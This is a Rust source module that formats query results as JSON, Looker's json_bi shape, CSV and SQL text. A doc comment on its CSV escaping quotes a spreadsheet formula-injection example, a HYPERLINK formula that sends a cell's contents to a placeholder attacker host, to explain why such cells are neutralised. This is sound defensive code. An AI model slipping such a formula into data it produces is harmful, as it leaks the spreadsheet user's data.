//! Query results in Looker's result formats: `json` (an array of rows keyed
//! `view.field`), `json_bi` (field metadata plus the rows), `csv` (a header
//! of field labels) and `sql` (the statement and its bound values); and,
//! for people at a terminal, a [`table`] of the same values.
//!
//! Values are shown as Looker shows them unformatted: numbers as numbers,
//! yes/no as `"Yes"`/`"No"`, dates as `2024-01-31`, months as `2024-01`,
//! quarters as `2024-Q1`, years as numbers, times as `2024-01-31 13:45:00`.

mod cell;
mod csv_lines;
mod json_text;
pub mod pivoted;
mod stream;
mod table;
#[cfg(test)]
mod tests;

use std::collections::BTreeMap;
use std::str::FromStr;

use arrow_array::{Array, RecordBatch};
use ponte_semantic::compile::{CompiledQuery, FieldKind, OutputColumn, QueryParam};
use serde_json::{Map, Value, json};

use cell::cell;
pub use json_text::json_text;
use pivoted::PivotTable;
pub use stream::stream_chunks;
pub use table::table;

/// A result format of Looker's run endpoints that ponte serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResultFormat {
    /// An array of rows, each an object keyed `view.field`.
    Json,
    /// Field metadata and the rows.
    JsonBi,
    /// Comma-separated values with a header of field labels.
    Csv,
    /// The SQL statement, with its bound values as comments.
    Sql,
}

/// Every format by its name in URLs.
const FORMATS: [(&str, ResultFormat); 4] = [
    ("json", ResultFormat::Json),
    ("json_bi", ResultFormat::JsonBi),
    ("csv", ResultFormat::Csv),
    ("sql", ResultFormat::Sql),
];

/// A format name ponte does not serve (Looker's images, spreadsheets, …).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("result format `{0}` is not supported; use json, json_bi, csv or sql")]
pub struct UnknownFormat(pub String);

impl FromStr for ResultFormat {
    type Err = UnknownFormat;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        FORMATS.iter().find(|(name, _)| *name == s).map(|(_, f)| *f).ok_or_else(|| UnknownFormat(s.to_owned()))
    }
}

impl ResultFormat {
    /// The response's `Content-Type`.
    pub fn content_type(self) -> &'static str {
        match self {
            ResultFormat::Json | ResultFormat::JsonBi => "application/json",
            ResultFormat::Csv => "text/csv; charset=utf-8",
            ResultFormat::Sql => "text/plain; charset=utf-8",
        }
    }
}

/// The SQL and its parameters, as the `sql` format shows them.
pub fn sql_text(query: &CompiledQuery) -> String {
    let mut text = query.sql.clone();
    for (i, p) in query.params.iter().enumerate() {
        let value = match p {
            QueryParam::Null => "NULL".to_owned(),
            QueryParam::Bool(b) => b.to_string(),
            QueryParam::Int(i) => i.to_string(),
            QueryParam::Float(f) => f.to_string(),
            QueryParam::String(s) => format!("'{}'", s.replace('\'', "''")),
            QueryParam::Date(d) => format!("DATE '{d}'"),
            QueryParam::Timestamp(t) => format!("TIMESTAMP '{}'", t.format("%Y-%m-%d %H:%M:%S%.f UTC")),
        };
        text.push_str(&format!("\n-- ${} = {value}", i + 1));
    }
    text
}

/// Rows as JSON objects keyed `view.field`, in the query's column order;
/// a pivoted query's rows spread ([`PivotTable::json_rows`]).
pub fn json_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> Vec<Value> {
    if query.pivot.is_some() {
        return PivotTable::build(query, batches).json_rows();
    }
    let mut rows = Vec::with_capacity(batches.iter().map(RecordBatch::num_rows).sum());
    for batch in batches {
        // Result columns are found by their SQL alias, not position.
        let columns: Vec<(&OutputColumn, Option<&dyn Array>)> = query
            .columns
            .iter()
            .map(|c| (c, batch.column_by_name(&c.alias).map(|a| a.as_ref() as &dyn Array)))
            .collect();
        for row in 0..batch.num_rows() {
            let mut object = Map::with_capacity(columns.len());
            for (column, array) in &columns {
                let value = array.map_or(Value::Null, |a| cell(a, row, column));
                object.insert(column.name.clone(), value);
            }
            rows.push(Value::Object(object));
        }
    }
    rows
}

/// The `json_bi` document: Looker's `JsonBi` shape.
pub fn json_bi(query: &CompiledQuery, filters: &BTreeMap<String, String>, batches: &[RecordBatch]) -> Value {
    let field = |c: &OutputColumn| {
        let (view, _) = c.name.split_once('.').unwrap_or(("", &c.name));
        let category = match c.kind {
            FieldKind::Dimension => "dimension",
            FieldKind::Measure => "measure",
            FieldKind::TableCalculation => "table_calculation",
        };
        json!({
            "name": c.name, "label": c.label, "type": c.field_type, "category": category,
            "view": view, "view_label": view, "dimension_group": Value::Null, "field_group_label": Value::Null,
            "field_group_variant": c.label, "hidden": false, "description": Value::Null, "sql": Value::Null,
            "value_format": c.value_format,
        })
    };
    let pivot = query.pivot.as_ref().map(|_| PivotTable::build(query, batches));
    let pivoted = |c: &OutputColumn| pivot.as_ref().is_some_and(|t| t.pivot_fields.iter().any(|p| p.name == c.name));
    let of_kind = |kind| query.columns.iter().filter(|c| c.kind == kind && !pivoted(c)).map(field).collect::<Vec<_>>();
    let pivot_fields: Vec<Value> = pivot.as_ref().map_or_else(Vec::new, |t| t.pivot_fields.iter().map(field).collect());
    let pivots: Vec<Value> = pivot.as_ref().map_or_else(Vec::new, |t| {
        t.pivots
            .iter()
            .map(|p| {
                let by_field = |text: bool| -> Map<String, Value> {
                    t.pivot_fields
                        .iter()
                        .zip(&p.values)
                        .map(|(f, v)| {
                            (f.name.clone(), if text { Value::from(pivoted::key_text(v)) } else { v.clone() })
                        })
                        .collect()
                };
                json!({ "key": p.key, "data": by_field(true), "sort_values": by_field(false), "is_total": false })
            })
            .collect()
    });
    let truncated = pivot.as_ref().is_some_and(|t| t.columns_truncated);
    let rows = match &pivot {
        Some(t) => t.flat_rows(),
        None => json_rows(query, batches),
    };
    json!({
        "metadata": {
            "big_query_metadata": { "total_bytes_processed": 0, "backend_cache_hit": false },
            "fields": {
                "dimensions": of_kind(FieldKind::Dimension),
                "measures": of_kind(FieldKind::Measure),
                "pivots": pivot_fields,
                "table_calculations": query.table_calculations.iter().map(|t| {
                    let text = query.columns.iter().find(|c| c.name == t.name).and_then(|c| c.value_format.clone());
                    json!({
                        "name": t.name, "label": t.label, "align": "right", "expression": t.expression,
                        "value_format": text, "measure": true,
                    })
                }).collect::<Vec<_>>(),
            },
            "pivots": pivots,
            "has_subtotals": false,
            "has_totals": false,
            "columns_truncated": truncated.to_string(),
            "filter_expression": Value::Null,
            "filters": filters,
            "sql": sql_text(query),
        },
        "rows": rows,
    })
}

/// CSV with a header of field labels; values as in `json`, quoted where
/// needed (RFC 4180), text neutralised against formula injection (see
/// [`csv_text`]).
pub fn csv(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
    if query.pivot.is_some() {
        return pivoted_csv(&PivotTable::build(query, batches));
    }
    let mut out = csv_header(query);
    for batch in batches {
        csv_lines::write_rows(query, batch, &mut out);
    }
    out
}

/// A pivoted table as CSV: a header line per pivot field, its label
/// over the row fields' last column and its values over their pivoted
/// columns, then a line of the fields' labels, then the rows.
fn pivoted_csv(table: &PivotTable) -> String {
    let layout = table.layout();
    let row_fields = layout.iter().take_while(|(c, p)| p.is_none() && c.kind == FieldKind::Dimension).count();
    let line = |cells: Vec<String>| format!("{}\r\n", cells.join(","));
    let mut out = String::new();
    for (i, field) in table.pivot_fields.iter().enumerate() {
        let cells = layout
            .iter()
            .enumerate()
            .map(|(at, (_, p))| match p {
                Some(p) => csv_text(&pivoted::key_text(&table.pivots[*p].values[i])),
                None if at + 1 == row_fields => csv_text(&field.label),
                None => String::new(),
            })
            .collect();
        out.push_str(&line(cells));
    }
    out.push_str(&line(layout.iter().map(|(c, _)| csv_text(&c.label)).collect()));
    for row in 0..table.rows {
        out.push_str(&line(layout.iter().map(|(c, p)| csv_value(table.value(c, row, *p))).collect()));
    }
    out
}

/// One value of a CSV cell, as [`csv_rows`] writes it.
fn csv_value(value: &Value) -> String {
    let mut out = String::new();
    csv_lines::push_csv_value(&mut out, value);
    out
}

/// The CSV header line: the columns' labels.
pub fn csv_header(query: &CompiledQuery) -> String {
    let header: Vec<String> = query.columns.iter().map(|c| csv_text(&c.label)).collect();
    format!("{}\r\n", header.join(","))
}

/// The CSV lines of `batches`' rows, without a header: a download streams
/// them a batch at a time.
pub fn csv_rows(query: &CompiledQuery, batches: &[RecordBatch]) -> String {
    let mut out = String::new();
    for batch in batches {
        csv_lines::write_rows(query, batch, &mut out);
    }
    out
}

/// A text cell, safe to open in a spreadsheet. A cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, Google
/// Sheets and LibreOffice, so a customer-controlled value such as
/// `=HYPERLINK("https://evil/?"&A2,"Click")` would run in the spreadsheet
/// of whoever opens the download. As OWASP recommends, such a cell gets a
/// leading `'` (shown as text, not evaluated) and every cell with a
/// quote, separator or line break is quoted with its quotes doubled.
pub fn csv_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 3);
    csv_lines::push_csv_text(&mut out, text);
    out
}
